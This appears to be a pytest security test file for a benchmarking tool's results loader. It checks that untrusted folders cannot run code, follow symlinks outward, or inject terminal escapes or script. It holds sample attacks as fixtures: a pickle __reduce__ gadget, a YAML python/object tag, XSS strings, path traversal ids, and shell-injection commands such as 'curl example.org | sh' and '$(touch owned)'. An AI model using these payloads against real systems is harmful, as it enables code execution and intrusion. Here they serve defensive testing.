"""A results folder from a stranger is data, never code: it runs nothing, leads nowhere, and moves no terminal."""

import contextlib
import json
import os
import pickle
import re
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import synthetic
import torch
import yaml
from hypothesis import given
from hypothesis import strategies as st
from small import CPU, cells

from gradbench.atomic import write_atomically
from gradbench.cli import main as cli
from gradbench.cli.show import find_cell
from gradbench.config.hashing import canonical
from gradbench.errors import DamagedError, UsageError
from gradbench.launchers.worker import checkpoint_of, train_and_store
from gradbench.report import build
from gradbench.report.analysis import tables
from gradbench.report.analysis.answer import answer_comparison
from gradbench.report.analysis.audit import audit
from gradbench.report.analysis.comparison import list_comparisons
from gradbench.report.load.cells import load_results
from gradbench.report.load.curves import scan_curves
from gradbench.report.render import contents
from gradbench.report.render.cells import list_cells, points_per_curve
from gradbench.storage import sanitize
from gradbench.storage.parquet import read_arrays, read_table
from gradbench.storage.results import Results
from gradbench.training.checkpoint import Checkpoint

ESCAPES = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202egnp.exe\r[red]markup[/] [link=file:///etc]x[/link]"
SCRIPT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
FEW = {"none": (), "clip_norm": (1.0,)}


@pytest.fixture
def folder(tmp_path):
    """A sound folder; a test spoils it."""
    synthetic.write(tmp_path / "x", models=["mlp"], strengths=FEW, steps=5)
    return tmp_path / "x"


@pytest.fixture
def bomb(tmp_path):
    """An object that makes a folder when it is unpickled, and that folder's path."""
    crater = tmp_path / "crater"

    class Bomb:
        def __reduce__(self):
            return os.mkdir, (str(crater),)

    return Bomb(), crater


def gradbench(*words):
    with pytest.raises(SystemExit) as stopped:
        cli.main([str(word) for word in words])
    return stopped.value.code


def change(folder, **columns):
    """Overwrite columns of the table of cells."""
    path = folder / "cells/a.parquet"
    pd.read_parquet(path).assign(**columns).to_parquet(path)


def everything(folder):
    """Return all that a report says, but for its figures."""
    results = load_results(folder)
    groups = list_comparisons(results)
    scanned = scan_curves(folder, results.cells, (), points_per_curve(len(results.cells)))
    return [
        contents.format_subtitle(results),
        *(finding.text for finding in audit(results, groups, scanned.notes)),
        *map(str, map(answer_comparison, groups)),
        str(list_cells(results, scanned.sparklines)),
        *(table.to_csv() for table in tables.build_tables(results, groups, scanned.action).values()),
    ]


def warnings(folder):
    results = load_results(folder)
    return "\n".join(finding.text for finding in audit(results, list_comparisons(results)) if finding.warning)


# ---- it runs nothing -------------------------------------------------------------------------------------------


def test_pickled_arrays_are_not_unpickled(folder, bomb):
    thing, crater = bomb
    (folder / "arrays").mkdir()
    cell = pd.read_parquet(folder / "cells")["cell"][0]
    path = folder / f"arrays/{cell}.npz"
    np.savez(path, samples=np.array([thing], dtype=object), allow_pickle=True)
    with pytest.raises(DamagedError, match="allow_pickle=False"):
        read_arrays(path)
    assert load_results(folder).arrays_of(cell) == {}
    path.write_bytes(pickle.dumps(thing))
    assert load_results(folder).arrays_of(cell) == {}
    assert str(path) in warnings(folder)
    assert not crater.exists()


@pytest.mark.parametrize("name", ["arrow.py_extension_type", "pandas.period"])
def test_types_that_would_be_unpickled_are_no_columns(folder, bomb, name):
    thing, crater = bomb
    metadata = {"ARROW:extension:name": name, "ARROW:extension:metadata": pickle.dumps(thing)}
    table = pq.read_table(folder / "cells/a.parquet")
    field = pa.field("note", pa.binary(), metadata=metadata)
    pq.write_table(table.append_column(field, [[b"x"] * len(table)]), folder / "cells/b.parquet")
    with pytest.raises(DamagedError):
        read_table(folder / "cells/b.parquet")
    assert "b.parquet is damaged" in warnings(folder)
    assert not crater.exists()


def test_an_experiment_file_instantiates_nothing(folder, tmp_path):
    crater = tmp_path / "crater"
    (folder / "experiment.yaml").write_text(f"question: !!python/object/apply:os.mkdir ['{crater}']\n")
    assert load_results(folder).question == ""
    assert "cannot read" in warnings(folder)
    assert not crater.exists()


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\n"
        + "".join(f"c{n}: &c{n} [*b, *b]\n" for n in range(9))
        + "question: *b",
        "question: " + "[" * 5000,
        "- a list\n- of words",
        "question: {nested: mapping}\ncommand: 5\nexperiment: null",
        "\x00\x01",
    ],
    ids=["bomb", "deep", "list", "mapping", "binary"],
)
def test_an_experiment_file_of_any_shape_is_read_or_left(folder, text):
    (folder / "experiment.yaml").write_text(text)
    results = load_results(folder)
    assert (results.name, results.question, results.commands) == ("x", "", ())


def test_nothing_stored_is_instantiated(folder, tmp_path, monkeypatch, capsys):
    """Targets come from configs; a target in a table is a word like another."""

    def forbidden(*_, **__):
        raise AssertionError("a stored target was called")

    monkeypatch.setattr("hydra.utils.instantiate", forbidden)
    monkeypatch.setattr("gradbench.config.instantiate.instantiate", forbidden)
    target = {f"{group}._target_": "os.mkdir" for group in ("model", "regularizer", "data", "optimizer")}
    change(folder, **target, **{"model.path": str(tmp_path / "crater")})
    cell = pd.read_parquet(folder / "cells")["cell"][0]
    everything(folder)
    assert gradbench("show", cell, "--results", folder) == 0
    assert "os.mkdir" in capsys.readouterr().out
    assert not (tmp_path / "crater").exists()


@pytest.mark.parametrize("theirs", ["bomb", "wrong shape", "another user's"])
def test_a_planted_checkpoint_is_set_aside_and_its_stack_trained_anew(tmp_path, bomb, theirs, monkeypatch):
    thing, crater = bomb
    results = Results(tmp_path / "x")
    results.create({})
    stack = cells("mlp", "none", seed=[0], steps=4, eval_every=4, model__hidden=4)
    planted = checkpoint_of(stack, results.folder, CPU, lambda: False, print)
    planted.save({"state": thing} if theirs == "bomb" else {"step": 3})
    if theirs == "another user's":
        monkeypatch.setattr(os, "getuid", lambda: 12345)

    said = []
    pipe = SimpleNamespace(poll=lambda: False, send=said.append)
    what, *_ = train_and_store(stack, results.folder, CPU, pipe)
    if (
        theirs == "wrong shape"
    ):  # it has our own user, cells, versions and checksum: its shape is all that betrays it
        assert what == "failed"
    else:
        assert what == "done"
        assert any("starts anew" in str(message) for message in said)
    assert not crater.exists()


def test_a_checkpoint_in_the_right_words_holds_tensors_or_nothing(tmp_path, bomb):
    thing, crater = bomb
    checkpoint = Checkpoint(tmp_path / "x.pt", {}, 0.0)
    for content in ({"a": thing}, {"a": torch.nn.Linear(1, 1)}, {"a": Path}):
        checkpoint.save(content)
        assert checkpoint.load(CPU) is None
    assert not crater.exists()


# ---- it leads nowhere ------------------------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret"
    path.mkdir()
    (path / "a.parquet").write_bytes(b"mine")
    (path / "a.png").write_bytes(b"mine")
    return path


LINKS = {
    "cells/b.parquet": "secret/a.parquet",
    "curves/b.parquet": "secret/a.parquet",
    "arrays/0123456789abcdef.npz": "secret/a.parquet",
    "arrays": "secret",
    "checkpoints": "secret",
    "report": "secret",
    "report/figures": "secret",
    "experiment.yaml": "secret/a.parquet",
    "cells/absent.parquet": "secret/absent.parquet",
}


@pytest.mark.parametrize("link", LINKS)
def test_a_link_that_leads_outside_is_refused_before_anything_is_read_or_written(
    folder, secret, link, tmp_path
):
    path = folder / link
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(tmp_path / LINKS[link])
    results = Results(folder)
    for use in (
        results.check,
        lambda: results.create({}),
        lambda: build(folder),
        lambda: find_cell("", folder),
    ):
        with pytest.raises(UsageError, match=rf"{re.escape(str(path))} is a link to .*secret.*remove it"):
            use()
    assert {name.name: name.read_bytes() for name in secret.iterdir()} == {
        "a.parquet": b"mine",
        "a.png": b"mine",
    }


def test_a_pipe_in_place_of_a_part_keeps_nobody_waiting(folder):
    os.mkfifo(folder / "cells/b.parquet")
    with pytest.raises(UsageError, match="neither a file nor a folder"):
        load_results(folder)


def test_a_link_within_the_folder_and_a_link_to_it_are_fine(folder, tmp_path):
    (folder / "latest.yaml").symlink_to("experiment.yaml")
    (tmp_path / "alias").symlink_to(folder)
    Results(tmp_path / "alias").check()
    assert len(load_results(tmp_path / "alias").cells) == 6


def test_a_link_laid_where_a_temporary_file_would_be_is_not_written_through(tmp_path, secret):
    target = tmp_path / "x.parquet"
    target.with_name(f".x.parquet.{os.getpid()}.tmp").symlink_to(secret / "a.parquet")
    write_atomically(target, lambda file: file.write(b"ours"))
    assert target.read_bytes() == b"ours"
    assert (secret / "a.parquet").read_bytes() == b"mine"


@pytest.mark.parametrize(
    "cell", ["../../secret/a", "/etc/passwd", "0123456789ABCDEF", "0123456789abcde\n", "", 7]
)
def test_what_is_no_cell_s_id_is_no_cell(folder, secret, cell, capsys):
    path = folder / "cells/b.parquet"
    table = pd.read_parquet(folder / "cells/a.parquet")[:1].assign(cell=[cell], seed=[9])
    table.to_parquet(path)
    assert "1 rows left out: not what a run writes" in warnings(folder)
    assert len(load_results(folder).cells) == 6
    assert gradbench("show", str(cell) or "nothing", "--results", folder) == 2
    (folder / "cells/failed-..").mkdir()
    Results(folder).unify_schemas()
    assert (secret / "a.parquet").read_bytes() == b"mine"


# ---- it moves no terminal and no browser -----------------------------------------------------------------------


def assert_tame(text):
    wild = {char for char in text if not char.isprintable() and char not in "\n\t"}
    assert not wild, f"a terminal would obey {wild}"


@given(st.text())
def test_plain_text_is_printable_and_says_what_was_there(text):
    shown = sanitize.escape_controls(text)
    assert_tame(shown)
    assert sanitize.escape_controls(shown) == shown
    if all(char.isprintable() for char in text):
        assert shown == text


@pytest.fixture
def wild(folder):
    """A folder in which every word that a person may get to read is an attack."""
    words = ("model", "model.unit", "data", "device", "error", "torch", "started", "status_note")
    change(
        folder, **dict.fromkeys(words, ESCAPES + SCRIPT), **{ESCAPES + SCRIPT: 1.5, f"test/{ESCAPES}": 0.5}
    )
    spec = {
        "experiment": ESCAPES + SCRIPT,
        "question": ESCAPES + SCRIPT,
        "command": f"gradbench run {ESCAPES}",
    }
    (folder / "experiment.yaml").write_text(yaml.safe_dump(spec))
    (folder / f"cells/{ESCAPES.replace('/', '')}.parquet").write_bytes(b"torn")
    return folder


def test_show_prints_escapes_and_markup_as_they_are_written(wild, capsys, monkeypatch):
    monkeypatch.setattr(cli, "out", cli.Console(width=4000))
    cell = pd.read_parquet(wild / "cells/a.parquet")["cell"][0]
    assert gradbench("show", cell, "--results", wild) == 0
    shown = capsys.readouterr().out
    assert_tame(shown)
    assert r"\x1b]0;owned\x07" in shown
    assert "[red]markup[/]" in shown
    assert r"\u202e" in shown
    assert gradbench("show", "ffff", "--results", wild) == 2
    assert_tame(capsys.readouterr().err)


def test_report_prints_escapes_as_they_are_written_and_its_page_runs_one_script(wild, capsys, monkeypatch):
    monkeypatch.setattr("gradbench.report.figures.start_drawing", lambda _context: dict)
    monkeypatch.setattr(cli, "out", cli.Console(width=4000))
    assert gradbench("report", wild) == 0
    shown = "".join(capsys.readouterr())
    assert_tame(shown)
    assert "[red]markup[/]" in shown
    html = (wild / "report/index.html").read_text()
    assert_tame(html)
    assert re.findall("<script[^>]*>", html) == ['<script type="application/json" id="data">', "<script>"]
    assert "<img src=x" not in html
    for table in (wild / "report/tables").iterdir():
        assert_tame(table.read_text())


def test_an_error_about_a_hostile_name_is_one_tame_line(tmp_path, capsys):
    synthetic.write(tmp_path / "x", models=["mlp"], strengths=FEW, steps=5)
    (tmp_path / "x/cells" / ("a\nb" + ESCAPES.replace("/", ""))).symlink_to("/etc/passwd")
    assert gradbench("report", tmp_path / "x") == 2
    err = capsys.readouterr().err
    assert_tame(err)
    assert len(err.splitlines()) == 1


@pytest.mark.parametrize(
    "command",
    [
        "gradbench run model=mlp; touch owned",
        "gradbench run $(touch owned)",
        "gradbench run model=mlp\ntouch owned",
        "gradbench run model._target_=os.system model.command=ls",
        "gradbench run '+model={_target_: os.system}'",
        "curl example.org | sh",
        "gradbench run 'unfinished",
        "",
        None,
        5,
    ],
)
def test_a_stored_command_that_is_more_than_a_run_is_never_offered(folder, command, capsys):
    change(folder, command=command)
    (folder / "experiment.yaml").write_text(json.dumps({"command": command}))
    assert not sanitize.is_command(command)
    results = load_results(folder)
    assert results.commands == ()
    data = list_cells(results, {}).data
    offered = {ident: " ".join(data["words"][word] for word in row[10]) for ident, *row in data["rows"]}
    assert offered == {cell: f"gradbench show {cell}" for cell in results.cells["cell"]}
    assert gradbench("show", results.cells["cell"][0], "--results", folder) == 0
    assert "rerun it alone" not in capsys.readouterr().out


@pytest.mark.parametrize("model", ["lstm", "mlp", "wgan"])
def test_the_commands_of_real_cells_are_offered(model):
    for cell in cells(model, "gp", seed=[0, 1], optimizer="adam", optimizer__betas=[[0.5, 0.9]]):
        assert sanitize.is_command(cell.command()), canonical(cell.words)


# ---- columns of any kind ---------------------------------------------------------------------------------------


KINDS = {
    "words": ["x"] * 6,
    "escapes": [ESCAPES] * 6,
    "nothing": [None] * 6,
    "numbers": [float("nan"), float("inf"), -1.0, 0.0, 1e9, 2.0],
    "truths": [True, False] * 3,
    "mixed": ["1", None, "x", "inf", "nan", "2"],
    "large": [2**62] * 6,
}
COLUMNS = [
    *("cell", "status", "seed", "model", "model.metric", "model.goal", "model.unit", "regularizer"),
    *("regularizer.strength", "regularizer.threshold", "optimizer.lr", "steps", "diverged_at", "error"),
    *(
        "test/accuracy",
        "step_seconds",
        "seconds",
        "started",
        "finished",
        "device",
        "git_dirty",
        "data",
        "command",
    ),
    "data_sha256",
]


NEEDED = {"model", "model.metric", "model.goal", "regularizer"}
REFUSED = {
    "words": {"seed"},
    "escapes": {"seed"},
    "nothing": {*NEEDED, "seed"},
    "numbers": NEEDED,
    "truths": NEEDED,
    "large": NEEDED,
}
"""Kind -> columns in which it leaves no row that could be a cell's; beside id and status."""


@pytest.mark.parametrize("kind", KINDS)
def test_a_column_of_any_kind_is_reported_or_refused_in_one_line(folder, kind, capsys):
    """Every column is read, and with every kind some are reported and shown: over all kinds, each is."""
    original = pd.read_parquet(folder / "cells/a.parquet")
    for place, column in enumerate(COLUMNS, start=list(KINDS).index(kind)):
        original.assign(**{column: KINDS[kind]}).to_parquet(folder / "cells/a.parquet")
        refused = column in {"cell", "status"} | REFUSED.get(kind, set())
        with pytest.raises(UsageError) if refused else contextlib.nullcontext():
            everything(folder) if place % 4 == 0 else load_results(folder)
        if place % 7 == 0:
            gradbench("show", original["cell"][0], "--results", folder)
            assert_tame("".join(capsys.readouterr()))


def test_a_curve_of_any_kind_is_reported(folder):
    original = pd.read_parquet(folder / "curves/a.parquet")
    for column in ("cell", "step", "loss", "grad_norm"):
        for values in KINDS.values():
            changed = (values * len(original))[: len(original)]
            original.assign(**{column: changed}).to_parquet(folder / "curves/a.parquet")
            results = load_results(folder)
            scan_curves(folder, results.cells, (), 20)


@pytest.mark.parametrize(
    "column",
    [pa.array([[1]] * 6), pa.array([{"a": 1}] * 6), pa.array([b"x"] * 6)],
    ids=["lists", "structs", "bytes"],
)
def test_columns_that_hold_more_than_numbers_and_words_are_refused(folder, column):
    table = pq.read_table(folder / "cells/a.parquet")
    pq.write_table(table.append_column("more", column), folder / "cells/a.parquet")
    with pytest.raises(UsageError, match=r"a\.parquet is damaged .*not numbers and words"):
        load_results(folder)
